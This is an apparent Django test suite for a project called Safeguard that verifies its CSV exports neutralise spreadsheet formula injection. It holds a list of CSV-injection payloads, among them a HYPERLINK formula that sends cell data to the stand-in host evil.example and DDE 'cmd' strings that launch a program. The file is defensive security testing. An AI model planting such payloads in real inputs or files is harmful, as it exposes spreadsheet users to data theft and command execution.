"""CSV injection: no cell of any CSV Safeguard writes begins with what a spreadsheet runs as a
formula. Anonymous input (a username tried at sign-in) is the proof case; every CSV writer goes
through safeguard.spreadsheet, which the last test holds the code to."""

import csv
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.roles import AUDITOR
from reports.figures import figures_report
from reports.services import figures_csv
from safeguard.spreadsheet import FORMULA_STARTS, neutralise
from tests.factories.people import UserFactory
from tests.reports.conftest import QUARTER

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(text.splitlines()) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    assert cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


def test_a_formula_tried_as_a_username_at_sign_in_leaves_the_audit_export_as_text(client, force):
    for payload in PAYLOADS:
        client.post(reverse("login"), {"username": payload, "password": "wrong"}, REMOTE_ADDR="192.0.2.50")
    client.force_login(UserFactory(username="ps.auditor", force=force, roles=[AUDITOR]))
    response = client.get(reverse("audit:export"), {"kind": "sign_in_failed", "recipient": "PSD"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    _assert_no_formula(cells)
    for payload in PAYLOADS:  # the sign-in form strips the leading tab or carriage return itself
        assert "'" + payload.strip() in cells


def test_a_formula_as_a_team_name_leaves_the_figures_as_text(supervisor, team):
    team.name = PAYLOADS[0]
    team.save()
    cells = _cells(figures_csv([figures_report(supervisor, period=QUARTER, now=timezone.now())]))
    _assert_no_formula(cells)
    assert "'" + PAYLOADS[0] in cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload


def test_numbers_are_written_as_numbers():
    assert (neutralise(-3), neutralise(2.5), neutralise(None)) == (-3, 2.5, "")


def test_every_csv_writer_is_the_formula_safe_one():
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for top in ("audit", "casefiles", "cases", "safeguard", "warrants")
        for path in (ROOT / top).rglob("*.py")
        if raw.search(path.read_text()) and path != ROOT / "safeguard" / "spreadsheet.py"
    ]
    assert offenders == []
